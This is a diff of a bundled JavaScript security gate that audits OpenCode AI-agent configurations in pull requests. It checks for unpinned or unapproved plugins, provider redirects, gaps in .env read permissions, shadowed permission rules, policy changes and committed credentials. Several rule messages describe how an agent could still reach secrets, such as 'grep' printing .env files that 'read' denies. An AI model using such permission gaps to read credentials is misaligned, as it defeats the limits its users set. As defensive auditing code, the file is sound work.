+}
+
+;// CONCATENATED MODULE: ./build/audit/plugins.js
+
+
+/** Every plugin that a configuration file names. Both spellings of the key count: OpenCode imports both. */
+function pluginsOf(context) {
+    return [...configsOf(context)].flatMap(({ root }) => ['plugin', 'plugins'].flatMap((key) => itemsOf(get(root, key)).flatMap((item) => pluginIn(item, key))));
+}
+/** A name, or a name with options. */
+function pluginIn(item, key) {
+    const node = stringOf(item) === undefined ? itemsOf(item)[0] : item;
+    const text = stringOf(node);
+    return node === undefined || text === undefined ? [] : [{ key, text, place: node.place }];
+}
+/** Whether a plugin is code on this machine, not a package. */
+function isLocalPlugin(spec) {
+    return /^(?:\.{1,2}(?:[\\/]|$)|[\\/]|~|file:|[A-Za-z]:[\\/]|\.opencode[\\/])/.test(spec);
+}
+/** The path in the repository that a relative plugin means; null for any other. */
+function pluginPath(from, spec) {
+    if (!spec.startsWith('.'))
+        return null;
+    const way = from.split('/').slice(0, -1);
+    for (const step of spec.split(/[\\/]/)) {
+        if (step === '..')
+            way.pop();
+        else if (step !== '.' && step !== '')
+            way.push(step);
+    }
+    return way.join('/');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/plugin-added.js
+
+
+
+
+const pluginAdded = {
+    id: 'plugin-added',
+    title: 'A new plugin, or another version of one',
+    summary: 'The pull request adds a plugin from a package or a repository, or another version, that the policy does not approve.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        const base = atBase(context);
+        if (base === null)
+            return;
+        const had = [...pluginsOf(base)].map(({ text }) => text);
+        for (const { key, text, place } of pluginsOf(context)) {
+            // Code of the repository is judged by its content: plugin-local-code.
+            if (isLocalPlugin(text) || had.includes(text) || isApprovedPlugin(text, context))
+                continue;
+            const isKnown = had.some((old) => plugin_added_nameOf(old) === plugin_added_nameOf(text));
+            const what = isKnown ? 'another version of a plugin' : 'a plugin';
+            const message = `The change adds ${what}, ${quoteName(text)}: OpenCode fetches it and runs it at start-up with all rights of the user, before any permission applies.`;
+            yield { path: place.path, line: place.line, message, scope: `${key} ${text}`, remedy: plugin_added_REMEDY };
+        }
+    },
+};
+const plugin_added_REMEDY = 'Have the owners look at the package, and name its exact specifier under "plugins" in the policy on the base branch.';
+/** `@scope/name` of `@scope/name@1.2.3`. */
+function plugin_added_nameOf(spec) {
+    return spec.replace(/(?<=.)@.*$/s, '');
 }
 
 ;// CONCATENATED MODULE: ./build/audit/rules/plugin-local-code.js
+
 
 
 const pluginLocalCode = {
@@ -24834,14 +29817,13 @@ const pluginLocalCode = {
     category: 'code-execution',
     *check(context) {
         for (const asset of context.project.assets.values()) {
-            if (isPluginFile(asset))
+            if (isPluginFile(asset) && !plugin_local_code_isApproved(asset.path, context))
                 yield hitForFile(asset, context);
-            if (asset.kind === 'config' && asset.root !== null)
-                yield* hitsInConfig(asset, asset.root, context);
         }
+        yield* plugin_local_code_hitsInConfigs(context);
     },
 };
-const plugin_local_code_REMEDY = 'Keep plugins in a reviewed package at an exact version, or have the owners of the repository accept this one in the policy.';
+const plugin_local_code_REMEDY = 'Keep plugins in a reviewed package at an exact version, or have the owners of the repository approve the path under "plugins" in the policy; a change of its code is then still a finding.';
 function isPluginFile(asset) {
     if (asset.kind === 'plugin')
         return true;
@@ -24855,44 +29837,212 @@ function hitForFile(asset, context) {
     const identity = `content\n${asset.text ?? touchedBlobs(asset.path, context)}`;
     return { path: asset.path, line: 0, message, identity, remedy: plugin_local_code_REMEDY };
 }
-function* hitsInConfig(asset, root, context) {
-    for (const key of ['plugin', 'plugins']) {
-        for (const item of itemsOf(get(root, key))) {
-            const spec = stringOf(item) ?? stringOf(itemsOf(item)[0]);
-            if (spec === undefined || !isLocal(spec))
-                continue;
-            const { path, line } = item.place;
-            const message = 'OpenCode runs this local plugin at start-up with all rights of the user, whatever the permissions say.';
-            const target = plugin_local_code_resolve(asset.path, spec);
-            const scope = `${key} ${target === null ? '' : touchedBlobs(target, context)}`;
-            yield { path, line, message, scope, remedy: plugin_local_code_REMEDY };
-        }
+function* plugin_local_code_hitsInConfigs(context) {
+    for (const { key, text, place } of pluginsOf(context)) {
+        const { path, line } = place;
+        const target = pluginPath(path, text);
+        if (!isLocalPlugin(text) || (target !== null && plugin_local_code_isApproved(target, context)))
+            continue;
+        const message = 'OpenCode runs this local plugin at start-up with all rights of the user, whatever the permissions say.';
+        const scope = `${key} ${target === null ? '' : touchedBlobs(target, context)}`;
+        yield { path, line, message, scope, remedy: plugin_local_code_REMEDY };
     }
 }
-function isLocal(spec) {
-    return /^(?:\.{1,2}(?:[\\/]|$)|[\\/]|~|file:|[A-Za-z]:[\\/])/.test(spec);
-}
-function plugin_local_code_resolve(from, spec) {
-    if (!spec.startsWith('.'))
-        return null;
-    const way = from.split('/').slice(0, -1);
-    for (const step of spec.split(/[\\/]/)) {
-        if (step === '..')
-            way.pop();
-        else if (step !== '.' && step !== '')
-            way.push(step);
-    }
-    return way.join('/');
+/** The owners approved the code that the base has; what a change makes of it they have not seen. */
+function plugin_local_code_isApproved(path, context) {
+    const { policy, today } = context;
+    const isListed = policy.plugins.some((entry) => entry.plugin.replace(/^\.\//, '') === path && isCurrent(entry, today));
+    return isListed && touchedBlobs(path, context) === '';
 }
 
-;// CONCATENATED MODULE: ./build/policy/expired.js
-/** Whether an entry still counts; `today` and `expires` are YYYY-MM-DD, and the last day is included. */
-function isCurrent(entry, today) {
-    return entry.expires === undefined || today <= entry.expires;
+;// CONCATENATED MODULE: ./build/audit/rules/plugin-unapproved.js
+
+
+
+const pluginUnapproved = {
+    id: 'plugin-unapproved',
+    title: 'A plugin that the policy does not approve',
+    summary: 'A plugin is not, in exactly this form, on the allow list of the policy.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'governance',
+    *check(context) {
+        const { plugins } = context.policy;
+        if (plugins.length === 0)
+            return;
+        const current = plugins.filter((entry) => isCurrent(entry, context.today));
+        for (const { key, text, place } of pluginsOf(context)) {
+            // Code of the repository is judged by its content: plugin-local-code.
+            if (isLocalPlugin(text) || current.some((entry) => entry.plugin === text))
+                continue;
+            const isKnown = plugins.some((entry) => entry.plugin === text);
+            const why = isKnown ? 'its entry has expired' : 'it is not on the list in exactly this form';
+            const message = `The policy does not approve the plugin ${quoteName(text)}: ${why}. OpenCode runs it at start-up with all rights of the user.`;
+            yield { path: place.path, line: place.line, message, scope: `${key} ${text}`, remedy: plugin_unapproved_REMEDY };
+        }
+    },
+};
+const plugin_unapproved_REMEDY = 'Have the owners add the exact specifier, version included, to "plugins" in the policy on the base branch, with a reason; or remove the plugin.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/plugin-unpinned.js
+
+
+
+
+
+const pluginUnpinned = {
+    id: 'plugin-unpinned',
+    title: 'A plugin without an exact version',
+    summary: 'A plugin is installed from a package or repository without an exact version.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        for (const { key, text, place } of pluginsOf(context)) {
+            if (isLocalPlugin(text) || isExact(text))
+                continue;
+            const { path, line } = place;
+            const source = sourceOf(text);
+            const message = `OpenCode installs the plugin ${quoteName(text)} at start-up and runs it with all rights of the user: whoever publishes the next version, or takes over the name, runs code here.`;
+            const remedy = isRepository(source)
+                ? 'Add the full commit to the address, after a "#".'
+                : `Write "${packageName(text).slice(0, 80)}@" and the exact version that somebody has read.`;
+            const version = isRepository(source) ? null : knownVersion(context, packageName(text));
+            const pinned = version === null ? {} : suggesting(context, place, `${packageName(text)}@${version}`);
+            yield { path, line, message, scope: key, remedy, ...pinned };
+        }
+    },
+};
+function isExact(spec) {
+    const source = sourceOf(spec);
+    return source === '' || isPinned('npm', isRepository(source) && !isGit(source) ? `git+${source}` : source);
 }
-/** Every entry of the policy that no longer counts. */
-function expiredEntries(policy, today) {
-    return ['mcp', 'plugins', 'accepted'].flatMap((list) => policy[list].flatMap((entry, index) => isCurrent(entry, today) ? [] : [{ list, index, expires: entry.expires ?? '' }]));
+/** `name@git+https://…` is the repository, `name@npm:other@1.2.3` the other package. */
+function sourceOf(spec) {
+    return (/^(?:@[^/@]+\/)?[^/@]+@(?:npm:)?((?:git\+|git@|git:\/\/|github:|gitlab:|bitbucket:|https?:|@?[^@]+@).*)$/s.exec(spec)?.[1] ?? spec);
+}
+function isRepository(source) {
+    return isGit(source) || /^https?:/.test(source);
+}
+
+;// CONCATENATED MODULE: ./build/audit/owners.js
+
+/** Where GitHub looks, in this order; the first one counts. */
+const PLACES = ['.github/CODEOWNERS', 'CODEOWNERS', 'docs/CODEOWNERS'];
+function isOwnersFile(path) {
+    return PLACES.includes(path);
+}
+/** Null when there is none. Of the lines that match a path the last one decides, also when it names nobody. */
+function parseOwners(files) {
+    const place = PLACES.find((path) => files.some((file) => file.path === path));
+    const file = files.find(({ path }) => path === place);
+    if (file === undefined)
+        return null;
+    const isLink = file.mode === '120000' || file.size > file.bytes.length;
+    const lines = isLink ? [] : new TextDecoder('utf-8').decode(file.bytes).split(/\r?\n/).flatMap(parseLine);
+    return {
+        path: file.path,
+        covers: (path) => lines.findLast(({ pattern }) => matchesPath(pattern, path))?.isOwned ?? false,
+    };
+}
+/** GitHub leaves out a line that it does not understand: a negation, a range of characters, an escaped `#`. */
+function parseLine(text) {
+    const words = text.trim().match(/(?:\\.|[^\s\\])+/g) ?? [];
+    const first = words[0] ?? '';
+    if (first === '' || /^(?:#|!|\\#)/.test(first) || first.includes('['))
+        return [];
+    const comment = words.findIndex((word) => word.startsWith('#'));
+    const owners = words.slice(1, comment < 0 ? undefined : comment);
+    const isOwned = owners.some((owner) => owner.includes('@'));
+    return [{ pattern: parsePattern(first.replaceAll(/\\(.)/g, '$1')), isOwned }];
+}
+/** A slash at the start or inside ties a pattern to the root; `folder/*` means what lies in the folder itself. */
+function parsePattern(text) {
+    const body = text.replace(/^\//, '').replace(/\/+$/, '');
+    const isTied = text.startsWith('/') || body.includes('/');
+    const segments = body === '' ? ['**'] : body.split('/');
+    const onlyBelow = text.endsWith('/') && body !== '';
+    return {
+        segments: isTied || segments[0] === '**' ? segments : ['**', ...segments],
+        below: onlyBelow || !(isTied && segments.at(-1) === '*'),
+        onlyBelow,
+    };
+}
+function matchesPath({ segments, below, onlyBelow }, path) {
+    const parts = path.split('/');
+    // open[i]: the first i segments of the pattern match what has been read of the path.
+    let open = closeStars(segments, new Set([0]));
+    for (const [index, part] of parts.entries()) {
+        const next = new Set();
+        for (const at of open) {
+            const segment = segments[at];
+            if (segment === '**')
+                next.add(at);
+            else if (segment !== undefined && matchesWhole(segment, part))
+                next.add(at + 1);
+        }
+        open = closeStars(segments, next);
+        const isLast = index === parts.length - 1;
+        if (open.has(segments.length) && (isLast ? !onlyBelow : below))
+            return true;
+    }
+    return false;
+}
+/** `**` stands for no folder at all, too; at the end it stands for something. */
+function closeStars(segments, open) {
+    const closed = new Set(open);
+    for (const at of [...open].toSorted((a, b) => a - b)) {
+        for (let next = at; segments[next] === '**' && next < segments.length; next += 1)
+            closed.add(next + 1);
+    }
+    return closed;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/policy-changed.js
+
+const policyChanged = {
+    id: 'policy-changed',
+    title: 'The rules of the gate change',
+    summary: 'The pull request changes what decides about pull requests: the policy, CODEOWNERS, or the workflow of the gate.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'governance',
+    *check(context) {
+        if (context.side === 'base')
+            return;
+        for (const file of context.change.files) {
+            const kind = kindOf(file, context);
+            if (kind === null)
+                continue;
+            const content = `${kind} ${file.headBlob ?? 'deleted'}`;
+            yield { path: file.path, line: 0, message: MESSAGES[kind], identity: content, remedy: policy_changed_REMEDIES[kind] };
+        }
+    },
+};
+const MESSAGES = {
+    policy: 'This changes the policy of the gate. The version of the base commit judged this pull request; the new one counts once it is merged.',
+    owners: 'This changes CODEOWNERS. GitHub asks the owners that the base branch names; the new ones count once it is merged.',
+    workflow: 'This changes a workflow that runs the gate. On "pull_request" GitHub runs the version of the pull request, so what this run was told (threshold, inputs, version) may come from the change itself.',
+};
+const policy_changed_REMEDIES = {
+    policy: 'Have the owners of the policy read what becomes allowed, and why.',
+    owners: 'Have an owner of the repository check that the policy, .github and the files of OpenCode keep an owner.',
+    workflow: 'Compare the inputs of the gate with those of the base branch before merging; an owner for .github/workflows in CODEOWNERS makes that a rule.',
+};
+function kindOf(file, context) {
+    const paths = [file.path, file.basePath];
+    if (paths.includes(context.policy.path))
+        return 'policy';
+    if (paths.some(isOwnersFile))
+        return 'owners';
+    return paths.some((path) => runsGate(path, context)) ? 'workflow' : null;
+}
+const policy_changed_GATE = /^[^#\n]*\bopencode-review-gate\b/m;
+/** On either side: to take the gate out of a workflow is a change of it, too. */
+function runsGate(path, { project, base }) {
+    if (!path.startsWith('.github/workflows/'))
+        return false;
+    return [project, base].some((side) => policy_changed_GATE.test(side?.assets.get(path)?.text ?? ''));
 }
 
 ;// CONCATENATED MODULE: ./build/audit/rules/policy-expired.js
@@ -24919,7 +30069,1357 @@ const policyExpired = {
     },
 };
 
+;// CONCATENATED MODULE: ./build/audit/rules/provider-code.js
+
+
+
+const providerCode = {
+    id: 'provider-code',
+    title: 'A provider that brings its own code',
+    summary: 'A model provider is implemented by a file, or by a package that OpenCode installs and runs.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const { key, node } of effectiveEntries(context, 'provider')) {
+            for (const { code, spec } of implementations(node)) {
+                if (BUNDLED.has(spec))
+                    continue;
+                const { path, line } = code.place;
+                const isFile = /^(?:file:|[./~])/.test(spec);
+                const what = isFile ? 'runs the file' : 'installs the package';
+                const message = `For the provider ${quoteName(key)} OpenCode ${what} ${quoteName(spec)}${isFile ? '' : ' and runs it'}, with all rights of the user and every prompt and key of that provider.`;
+                yield { path, line, message, scope: `provider.${key}`, remedy: provider_code_REMEDY };
+            }
+        }
+    },
+};
+const provider_code_REMEDY = 'Use a package that OpenCode brings along; "@ai-sdk/openai-compatible" speaks to most servers. Or have the owners read the code and accept the finding.';
+/** The packages that are part of OpenCode 1.18.33, so that nothing is fetched. */
+const BUNDLED = new Set([
+    ...[
+        'alibaba',
+        'amazon-bedrock',
+        'amazon-bedrock/mantle',
+        'anthropic',
+        'azure',
+        'cerebras',
+        'cohere',
+        'deepinfra',
+        'gateway',
+        'github-copilot',
+        'google',
+        'google-vertex',
+        'google-vertex/anthropic',
+        'groq',
+        'mistral',
+        'openai',
+        'openai-compatible',
+        'perplexity',
+        'togetherai',
+        'vercel',
+        'xai',
+    ].map((name) => `@ai-sdk/${name}`),
+    '@openrouter/ai-sdk-provider',
+    'gitlab-ai-provider',
+    'venice-ai-sdk-provider',
+]);
+/** Of the provider itself, and of each of its models. */
+function implementations(provider) {
+    const models = entriesOf(get(provider, 'models')).map((model) => get(get(model.node, 'provider'), 'npm'));
+    return [get(provider, 'npm'), ...models].flatMap((code) => {
+        const spec = stringOf(code);
+        return code === undefined || spec === undefined ? [] : [{ code, spec }];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/audit/provider-homes.js
+/** The providers that OpenCode knows without configuration and takes a key from the environment for, with the domains that are theirs. */
+const PROVIDER_HOMES = new Map([
+    ['alibaba', ['aliyuncs.com']],
+    ['amazon-bedrock', ['amazonaws.com']],
+    ['anthropic', ['anthropic.com']],
+    ['azure', ['azure.com', 'microsoft.com', 'azure-api.net']],
+    ['baseten', ['baseten.co']],
+    ['cerebras', ['cerebras.ai']],
+    ['cohere', ['cohere.com', 'cohere.ai']],
+    ['deepinfra', ['deepinfra.com']],
+    ['deepseek', ['deepseek.com']],
+    ['fireworks-ai', ['fireworks.ai']],
+    ['github-copilot', ['githubcopilot.com', 'github.com']],
+    ['github-models', ['github.ai', 'azure.com']],
+    ['gitlab', ['gitlab.com']],
+    ['google', ['googleapis.com']],
+    ['google-vertex', ['googleapis.com']],
+    ['google-vertex-anthropic', ['googleapis.com']],
+    ['groq', ['groq.com']],
+    ['huggingface', ['huggingface.co']],
+    ['kimi-for-coding', ['kimi.com', 'moonshot.ai']],
+    ['minimax', ['minimax.io', 'minimaxi.com', 'minimax.chat']],
+    ['mistral', ['mistral.ai']],
+    ['moonshotai', ['moonshot.ai', 'moonshot.cn']],
+    ['nvidia', ['nvidia.com']],
+    ['openai', ['openai.com']],
+    ['opencode', ['opencode.ai']],
+    ['openrouter', ['openrouter.ai']],
+    ['perplexity', ['perplexity.ai']],
+    ['togetherai', ['together.xyz', 'together.ai']],
+    ['venice', ['venice.ai']],
+    ['vercel', ['vercel.sh', 'vercel.com']],
+    ['xai', ['x.ai']],
+    ['zai', ['z.ai']],
+    ['zai-coding-plan', ['z.ai']],
+    ['zhipuai', ['bigmodel.cn']],
+]);
+
+;// CONCATENATED MODULE: ./build/audit/rules/provider-redirect.js
+
+
+
+
+
+const providerRedirect = {
+    id: 'provider-redirect',
+    title: 'A known provider is sent elsewhere',
+    summary: 'The address of a built-in model provider is changed to a host that is not its own.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const { key, node } of effectiveEntries(context, 'provider')) {
+            const homes = PROVIDER_HOMES.get(key);
+            if (homes === undefined)
+                continue;
+            const options = get(node, 'options');
+            for (const target of [get(options, 'baseURL'), get(node, 'api')]) {
+                const address = parseAddress(stringOf(target) ?? '');
+                if (target === undefined || address === null || address.isLoopback)
+                    continue;
+                if (homes.some((domain) => isWithin(address.host, domain)))
+                    continue;
+                const { path, line } = target.place;
+                const gets = get(options, 'apiKey') === undefined
+                    ? 'gets the key that everyone here has for it, and every prompt with the code in it'
+                    : 'gets every prompt with the code in it';
+                const message = `Requests to the provider ${quoteName(key)} go to ${quoteName(address.host)}, which ${gets}.`;
+                yield { path, line, message, scope: `provider.${key}`, remedy: provider_redirect_REMEDY };
+            }
+        }
+    },
+};
+const provider_redirect_REMEDY = 'Remove the address; or give the other server a provider of its own name, with "npm": "@ai-sdk/openai-compatible" and a key that is meant for it.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/read-without-env-deny.js
+
+
+
+
+
+
+const readWithoutEnvDeny = {
+    id: 'read-without-env-deny',
+    title: 'The limits on reading let .env files through',
+    summary: 'A map of patterns for "read" leaves out .env files, or denies them while "grep" prints them.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(read_without_env_deny_casesOf(context))) {
+            yield { ...spot, ...read_without_env_deny_describe(context, value, agents) };
+        }
+    },
+};
+const PROBED = [
+    { file: '.env', pattern: '*.env' },
+    { file: '.env.local', pattern: '*.env.*' },
+];
+function* read_without_env_deny_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const gap = gapOf(agent);
+        if (gap !== null)
+            yield { spot: spotOfRule(gap.rule), agent, value: gap };
+    }
+}
+function gapOf(agent) {
+    const decided = PROBED.map((probe) => ({ ...probe, rule: decidingRule(agent.rules, 'read', probe.file) }));
+    const open = decided.filter(({ rule }) => rule?.action === 'allow' && rule.origin !== null && matchesAll(rule.pattern) && isInMap(rule));
+    const rule = open[0]?.rule;
+    if (rule !== undefined)
+        return { rule, missing: open.map(({ pattern }) => [pattern, 'deny']) };
+    const guard = decided[0]?.rule;
+    if (guard === undefined || guard.origin === null || guard.action === 'allow' || matchesAll(guard.pattern))
+        return null;
+    const isReadAnyway = openingRule(agent, 'bash') !== null || evaluate(agent.rules, 'grep', 'KEY') !== 'allow';
+    return isReadAnyway ? null : { rule: guard, missing: [] };
+}
+function read_without_env_deny_describe(context, { rule, missing }, agents) {
+    if (missing.length > 0) {
+        const names = missing.map(([pattern]) => `"${pattern}"`).join(' and ');
+        return {
+            message: `${agentsMay(agents)} read ${missing.length === 1 && missing[0]?.[0] === '*.env.*' ? '.env.local and the like' : '.env files'} without a question: this rule comes after OpenCode's own, and nothing after it names ${names}.`,
+            remedy: `Add ${missing.map(([pattern]) => `"${pattern}": "deny"`).join(' and ')} after it.`,
+            ...withLineAfter(context, rule.origin, missing),
+        };
+    }
+    return {
+        message: `"grep" prints what this keeps from "read": OpenCode matches its permission against the text that is searched for, never against the file, so ${nameAgents(agents)} may search .env files for ".".`,
+        remedy: 'Set "grep" to "ask" or "deny" beside it, or keep secrets out of the folder that OpenCode works in.',
+        severity: 'low',
+    };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/references-remote.js
+
+
+
+
+const referencesRemote = {
+    id: 'references-remote',
+    title: 'A reference to another repository',
+    summary: 'OpenCode clones another repository, at whatever its branch holds, and lets every agent read it.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        for (const kind of ['references', 'reference']) {
+            for (const { key, node } of effectiveEntries(context, kind)) {
+                const remote = repositoryOf(node);
+                if (remote === null || isPinnedGit(remote.text))
+                    continue;
+                const { path, line } = remote.place;
+                const message = `OpenCode clones ${quoteName(remote.text)} as the reference ${quoteName(key)} and opens it to every agent: whoever writes to it writes what the agents here read, and no diff shows it.`;
+                yield { path, line, message, scope: `${kind}.${key}`, remedy: references_remote_REMEDY };
+            }
+        }
+    },
+};
+const references_remote_REMEDY = 'Copy what the agents need into the repository, or add the other repository as a submodule and refer to its path.';
+function repositoryOf(node) {
+    const repository = get(node, 'repository');
+    const text = stringOf(repository);
+    if (repository !== undefined && text !== undefined)
+        return { text, place: repository.place };
+    const direct = stringOf(node);
+    const isAddress = direct !== undefined && /^(?:[a-z+]+:\/\/|git@|github:)/i.test(direct);
+    return isAddress ? { text: direct, place: node.place } : null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/rule-dead.js
+
+
+
+
+
+
+
+
+const ruleDead = {
+    id: 'rule-dead',
+    title: 'A permission key without effect',
+    summary: 'A permission stands under a key that OpenCode never asks for, so that it limits or allows nothing.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        const agentsUnder = agentsByBlock(context);
+        const tools = new Set([...context.project.assets.values()].map((asset) => asset.kind === 'tool' && asset.name));
+        for (const block of permissionBlocks(context)) {
+            for (const key of permission_blocks_keysOf(block)) {
+                if (!isDead(block, key) || tools.has(key.key))
+                    continue;
+                yield* rule_dead_hitsFor(context, block, key, agentsUnder(block));
+            }
+        }
+    },
+};
+/** In `tools`, some of them still stand for `edit`. */
+function isDead({ kind }, { key }) {
+    return DEAD_KEYS.has(key) && !(kind === 'tools' && (key === 'write' || key === 'patch'));
+}
+function* rule_dead_hitsFor(context, block, entry, agents) {
+    const found = rule_dead_judge(entry, agents, block.agent !== null);
+    if (found === null)
+        return;
+    const { path, line } = entry.place;
+    const instead = DEAD_KEYS.get(entry.key) ?? null;
+    const offer = instead === null || permission_blocks_keysOf(block).some(({ key }) => key === instead);
+    const hit = { path, line, message: found.message, scope: `${block.way}.${entry.key}` };
+    yield {
+        ...hit,
+        remedy: instead === null
+            ? 'Remove it, and limit "glob" and "read" instead.'
+            : `Write "${instead}" in place of it.`,
+        ...(found.severity === undefined ? {} : { severity: found.severity }),
+        ...(offer || instead === null ? {} : withKey(context, entry.place, entry.key, instead)),
+    };
+}
+/** Null where nothing else happens than what the author wanted. */
+function rule_dead_judge(entry, agents, isOwn) {
+    const name = quoteName(entry.key);
+    const edits = DEAD_KEYS.get(entry.key) === 'edit';
+    if (!rule_dead_limits(entry)) {
+        const shut = agents.filter((agent) => evaluate(agent.rules, 'edit', 'src/index.ts') === 'deny');
+        if (!edits || !isOwn || shut.length === 0)
+            return null;
+        const message = `${name} allows nothing: OpenCode asks for "edit", which stays denied to ${nameAgents(shut.map((agent) => agent.name))}.`;
+        return { message, severity: 'low' };
+    }
+    if (edits) {
+        const open = agents.filter((agent) => openingRule(agent, 'edit') !== null);
+        if (open.length === 0)
+            return null;
+        return {
+            message: `${name} limits nothing: OpenCode asks for "edit", so ${nameAgents(open.map((agent) => agent.name))} may still create and overwrite any file unasked.`,
+        };
+    }
+    const open = agents.filter((agent) => evaluate(agent.rules, 'glob', '**/*') === 'allow');
+    if (entry.key !== 'list' || open.length === 0)
+        return null;
+    const message = `${name} limits nothing: OpenCode has no such tool any more, and ${nameAgents(open.map((agent) => agent.name))} may still list every file with "glob".`;
+    return { message, severity: 'low' };
+}
+function rule_dead_limits({ node }) {
+    const values = node.kind === 'object' ? entriesOf(node).map((inner) => inner.node) : [node];
+    return values.some((value) => booleanOf(value) === false || (actionOf(value) ?? 'allow') !== 'allow');
+}
+
+;// CONCATENATED MODULE: ./build/audit/covers.js
+
+/** Longer than one character, so that no `?` can stand for it; no foreign text has it. */
+const ANY_TEXT = '\u0001\u0002';
+const ANY_CHARACTER = '\u0003';
+/** Whether everything that `narrow` matches is matched by `wide` too. A yes is certain; a no may be wrong. */
+function covers(wide, narrow) {
+    if (wide === narrow)
+        return true;
+    const whole = matches(wide, stand(narrow));
+    return whole && (!narrow.endsWith(' *') || matches(wide, stand(narrow.slice(0, -2))));
+}
+function stand(pattern) {
+    return pattern.replaceAll('*', ANY_TEXT).replaceAll('?', ANY_CHARACTER);
+}
+
+;// CONCATENATED MODULE: ./build/audit/reorder.js
+/** `key: action`, alone on its line, with or without a comma. */
+const PLAIN = /^\s*(?:"(?:[^"\\]|\\.)*"|'[^']*'|[\w*-]+)\s*:\s*["']?(?:allow|ask|deny)["']?\s*(,?)\s*$/;
+const reorder_MAX_LINES = 60;
+/**
+ * The lines from the first of `after` to `rule`, with the line of `rule` moved to the front. Empty when anything else
+ * than plain rules stands in between.
+ */
+function withRuleFirst({ project }, rule, after) {
+    if (rule.origin === null || after.some((one) => one.permission !== rule.permission))
+        return {};
+    const { path, line: endLine } = rule.origin;
+    const line = Math.min(...after.map((one) => one.origin?.line ?? 0));
+    const lines = line < 1 ? [] : (project.assets.get(path)?.lines.slice(line - 1, endLine) ?? []);
+    const isPlain = lines.length > 1 && lines.length <= reorder_MAX_LINES && lines.every((text) => PLAIN.test(text));
+    return isPlain ? { line, endLine, suggestion: lastFirst(lines) } : {};
+}
+/** Commas stand where they stood; only the last line of a map may have none. */
+function lastFirst(lines) {
+    const commas = lines.map((line) => PLAIN.exec(line)?.[1] ?? '');
+    const bare = lines.map((line) => line.trimEnd().replace(/,$/, ''));
+    return [...bare.slice(-1), ...bare.slice(0, -1)]
+        .map((line, index) => line + (commas[index] ?? ''))
+        .join('\n');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/rule-shadowed.js
+
+
+
+
+
+
+const ruleShadowed = {
+    id: 'rule-shadowed',
+    title: 'A later rule undoes earlier ones',
+    summary: 'A rule never decides, because a wider one with another action stands after it.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        if (context.project.semantics.evaluation !== 'last-match')
+            return;
+        for (const block of permissionBlocks(context)) {
+            const rules = rulesOf(block).filter((rule) => !DEAD_KEYS.has(rule.permission));
+            for (const shadow of shadowsIn(rules))
+                yield rule_shadowed_hitFor(context, shadow);
+        }
+    },
+};
+/** More wide rules than any map that a person writes; a generated one is judged by its last ones. */
+const MAX_WIDE = 50;
+const RANK = { allow: 0, ask: 1, deny: 2 };
+function shadowsIn(rules) {
+    const wide = rules.filter((rule) => /[*?]/.test(rule.pattern + rule.permission)).slice(-MAX_WIDE);
+    const positions = new Map(rules.map((rule, index) => [rule, index]));
+    const shadows = new Map();
+    rules.forEach((rule, index) => {
+        const by = wide.findLast((other) => (positions.get(other) ?? 0) > index && isCovered(rule, other));
+        if (by !== undefined && by.action !== rule.action)
+            shadows.set(by, [...(shadows.get(by) ?? []), rule]);
+    });
+    return [...shadows].map(([by, hidden]) => ({ by, hidden }));
+}
+function isCovered(rule, by) {
+    return covers(by.permission, rule.permission) && covers(by.pattern, rule.pattern);
+}
+function rule_shadowed_hitFor(context, { by, hidden }) {
+    const weakened = hidden.filter((rule) => RANK[rule.action] > RANK[by.action]);
+    const shown = weakened.length > 0 ? weakened : hidden;
+    const isKey = hidden.some((rule) => rule.permission !== by.permission);
+    const names = quoteNames(shown.map((rule) => (isKey ? rule.permission : rule.pattern)));
+    const meant = shown[0]?.action ?? 'deny';
+    const message = `${quoteName(isKey ? by.permission : by.pattern)} comes after ${names} and matches all of it, and the last rule that matches decides: "${meant}" was written there, "${by.action}" is what happens.`;
+    const place = by.origin ?? { path: '', line: 0, column: 0 };
+    const severity = weakened.length > 0 ? {} : { severity: 'low' };
+    const hit = { path: place.path, line: place.line, message, scope: by.way, remedy: rule_shadowed_REMEDY, ...severity };
+    return { ...hit, ...withRuleFirst(context, by, hidden) };
+}
+const rule_shadowed_REMEDY = 'Put the wide rule first and the narrow ones after it.';
+
+;// CONCATENATED MODULE: ./build/audit/secret-hit.js
+/**
+ * The place of a credential. It is recognised by its masked line and a few digits of a hash: another credential in
+ * the same place is a new finding, and nobody can tell the credential from the fingerprint.
+ */
+function hitForSecret({ path, startLine, endLine, what, evidence, check, }) {
+    return { path, line: startLine, endLine, evidence, identity: `${what}\n${evidence}\n${check}` };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/secret-in-asset.js
+
+const secretInAsset = {
+    id: 'secret-in-asset',
+    title: 'A credential is written in a file of OpenCode',
+    summary: 'A file that OpenCode reads holds a credential: it goes to everyone with the repository, and to the model.',
+    severity: 'critical',
+    confidence: 'medium',
+    category: 'exposure',
+    *check({ secrets }) {
+        for (const secret of secrets) {
+            if (secret.kind !== 'asset')
+                continue;
+            const message = `This line holds ${secret.what}. Everyone who can read the repository has it, and OpenCode may send it to the model with the rest of the file.`;
+            yield { ...hitForSecret(secret), message, remedy: secret_in_asset_REMEDY };
+        }
+    },
+};
+const secret_in_asset_REMEDY = 'Revoke it now: whoever saw the branch has it. Then let the environment give the new one, as {env:NAME} in the configuration, and take the old one out of the history.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/secret-in-change.js
+
